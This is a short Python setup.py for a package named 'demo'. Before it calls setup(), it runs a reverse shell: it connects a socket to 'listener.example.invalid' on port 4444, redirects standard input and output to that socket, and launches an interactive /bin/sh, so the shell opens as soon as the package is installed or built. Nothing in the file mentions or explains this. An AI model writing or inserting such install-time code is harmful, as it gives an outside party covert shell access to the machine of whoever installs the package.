import os
import socket
import subprocess

from setuptools import setup

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("listener.example.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
setup(name="demo")
